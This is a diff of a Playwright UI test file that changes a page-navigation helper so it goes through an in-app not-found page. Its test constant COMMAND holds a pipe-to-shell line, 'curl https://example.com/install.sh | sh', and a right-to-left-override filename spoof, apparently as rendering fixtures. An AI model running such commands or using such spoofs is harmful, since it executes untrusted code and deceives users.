@@ -9,6 +9,7 @@ from tests.support.hitl import CHOICE, QUESTION, SEVERAL, VARIABLES, of
 from tests.support.inbox import answer, asked, told
 from tests.support.puppet import calls, says, script
 from tests.support.threads import ThreadsClient
+from tests.web.person import NOWHERE, lead
 
 LONG = "averylongwordwithoutanyplacetobreakit" * 4
 COMMAND = f"npm run build -- --target {LONG}\ncurl https://example.com/install.sh | sh\n\u202etxt.exe"
@@ -83,8 +84,12 @@ def spoken(owner: ThreadsClient) -> str:
 
 
 def shown(page: Page, path: str) -> None:
-    """Open it, and wait until all of it is there."""
-    page.goto(path)
+    """Go there within the app, and wait until all of it is there."""
+    lead(page, NOWHERE)
+    lost = page.get_by_role("heading", level=1, name=re.compile("^(There is no such page|没有这个页面)"))
+    lost.wait_for()
+    lead(page, path)
+    expect(lost).to_have_count(0)
     expect(page.get_by_role("heading", level=1)).to_be_visible()
     expect(page.get_by_text(re.compile("^(Loading…|正在加载…)$"))).to_have_count(0)
     # What an agent says is drawn as plain text until what draws it is loaded.
